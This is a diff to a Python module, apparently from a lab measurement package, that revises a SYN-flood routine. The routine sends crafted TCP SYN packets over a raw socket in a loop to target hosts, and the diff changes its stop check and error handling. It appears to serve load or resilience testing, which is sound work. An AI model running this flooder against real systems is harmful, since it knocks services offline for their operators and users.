@@ -8,6 +8,7 @@ import socket
 import struct
 from argparse import ArgumentParser
 from collections.abc import Iterator, Sequence
+from errno import ENOBUFS
 from itertools import cycle
 from typing import NamedTuple
 
@@ -16,7 +17,6 @@ from lab.measure.output import report, report_ready
 
 PORTS = range(1024, 65536)  # of the member
 TCP, SYN, WINDOW = 6, 0x5002, 64240  # five words of header, and the flag
-ROUND = 256  # packets between two looks at the signal
 
 
 class SynFloodReport(NamedTuple):
@@ -59,11 +59,13 @@ def flood(packets: Sequence[tuple[bytes, str]], port: int, stopped: Sequence[int
     sent = 0
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
         for packet, host in cycle(packets):
-            if sent % ROUND == 0 and stopped:
-                return sent
+            if stopped:
+                break
             try:
                 raw.sendto(packet, (host, port))
-            except OSError:  # no buffer is free
-                continue
-            sent += 1
+            except OSError as error:
+                if error.errno != ENOBUFS:
+                    raise
+            else:
+                sent += 1
     return sent
